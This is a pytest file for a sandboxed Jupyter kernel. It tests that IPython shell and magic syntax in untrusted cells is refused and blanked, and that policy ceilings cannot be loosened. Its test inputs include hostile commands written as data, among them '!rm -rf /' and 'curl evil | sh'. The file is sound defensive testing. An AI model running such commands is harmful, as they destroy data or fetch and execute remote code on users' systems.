"""Control magics: finding IPython syntax in untrusted cell text, and the ceiling."""
import pytest

from sandbox_kernel.magics import (MagicError, cell_policy, exceeds, parse_cell, select_isolation,
                                   select_policy)
from sandbox_kernel.policy import PRESETS, Policy

STRICT, DS = PRESETS["strict"], PRESETS["data-science"]


def refused(source):
    return [e.record()["target"] for e in parse_cell(source).refused]


@pytest.mark.parametrize("source, target", [
    ("!ls", "!ls"),
    ("  !rm -rf /", "!rm"),
    ("%run evil.py", "%run"),
    ("%load x.py", "%load"),
    ("%env HOME=/", "%env"),
    ("%system id", "%system"),
    ("%pip install x", "%pip"),
    ("%%bash\necho hi", "%%bash"),
    ("%%writefile x.py\nimport os", "%%writefile"),
    ("x = !ls", "x"),
    ("files = %sx ls", "files"),
    ("len?", "len?"),
    ("len??", "len??"),
    ("?len", "?len"),
    ("x = 1\nif x:\n    %run evil.py", "%run"),
])
def test_ipython_syntax_is_refused_and_blanked(source, target):
    parsed = parse_cell(source)
    assert parsed.refused, source
    assert parsed.refused[0].record()["target"] == target
    assert parsed.refused[0].record()["kind"] == "magic"
    # Nothing of the refused syntax is left in the code handed on.
    assert "!" not in parsed.code and "%" not in parsed.code and "?" not in parsed.code


def test_cell_magic_blanks_the_whole_cell():
    parsed = parse_cell("%%bash\ncurl evil | sh\nprint(1)")
    assert parsed.code.strip() == ""
    assert len(parsed.code.split("\n")) == 3  # line numbers kept


@pytest.mark.parametrize("source", [
    's = """\n%d items\n!not a command\n?\n"""',
    "x = '%s?' % 3  # really?",
    "d = {\n  'a': 1,\n  }\nprint(d)",
    "x = (1 +\n  2)",
    "x = 10 % 3",
    "print(f'{x!r}')",
    "y = rb'\\'?'",
    "a != b",
])
def test_plain_python_is_untouched(source):
    parsed = parse_cell(source)
    assert parsed.refused == [] and parsed.controls == []
    assert parsed.code == source


def test_control_magics_are_found_in_order_and_blanked():
    parsed = parse_cell("%sandbox_policy strict\nx = 1\n%sandbox_status\nprint(x)")
    assert [(c.name, c.args, c.line) for c in parsed.controls] == [
        ("sandbox_policy", "strict", 1), ("sandbox_status", "", 3)]
    assert parsed.code == "\nx = 1\n\nprint(x)"


def test_cell_control_must_come_first_and_controls_must_be_top_level():
    assert parse_cell("%%sandbox --timeout 2\nx = 1").cell_control.args == "--timeout 2"
    assert refused("x = 1\n%%sandbox --timeout 2") == ["%%sandbox"]
    assert refused("if True:\n    %sandbox_policy data-science") == ["%sandbox_policy"]


def test_exceeds_counts_only_what_the_policy_grants():
    assert exceeds(STRICT, DS) == []
    assert "files" in exceeds(DS, STRICT) and "module numpy" in exceeds(DS, STRICT)
    loose = Policy.from_dict({"extends": "data-science", "name": "no-query-rule", "object_deny": []})
    assert exceeds(loose, DS) == ["object rules"]


def test_select_policy_tightens_and_refuses_loosening_with_the_ceiling_named():
    assert select_policy("strict", PRESETS, DS).name == "strict"
    with pytest.raises(MagicError) as info:
        select_policy("data-science", PRESETS, STRICT, line=1)
    message = str(info.value)
    assert "ceiling 'strict'" in message and "--SandboxKernel.ceiling_policy" in message
    assert info.value.record()["kind"] == "policy"
    with pytest.raises(MagicError, match="unknown policy 'nope'"):
        select_policy("nope", PRESETS, DS)


def test_cell_overrides_within_and_beyond_the_ceiling():
    tighter = cell_policy("--timeout 2 --memory 100 --ticks 1000", DS, PRESETS, DS)
    assert (tighter.limits.timeout, tighter.limits.memory_mb, tighter.limits.ticks) == (2, 100, 1000)
    assert cell_policy("--policy strict", DS, PRESETS, DS).name == "strict"
    with pytest.raises(MagicError, match="beyond the ceiling"):
        cell_policy(f"--timeout {DS.limits.timeout * 10}", DS, PRESETS, DS)
    with pytest.raises(MagicError, match="ceiling 'strict'"):
        cell_policy("--policy data-science", STRICT, PRESETS, STRICT)
    with pytest.raises(MagicError, match="must be positive"):
        cell_policy("--timeout -1", DS, PRESETS, DS)
    with pytest.raises(MagicError, match="unrecognized"):
        cell_policy("--files on", DS, PRESETS, DS)


def test_operator_limit_overrides_apply_to_selected_policies():
    policy = select_policy("strict", PRESETS, DS, limits_override={"timeout": 5.0})
    assert policy.limits.timeout == 5.0


def test_isolation_ceiling_is_the_weakest_level_allowed():
    assert select_isolation("kernel", "process") == "kernel"
    assert select_isolation("process", "process") == "process"
    with pytest.raises(MagicError, match="weaker than this kernel's ceiling 'process'"):
        select_isolation("none", "process")
    with pytest.raises(MagicError, match="unknown isolation level"):
        select_isolation("docker", "none")
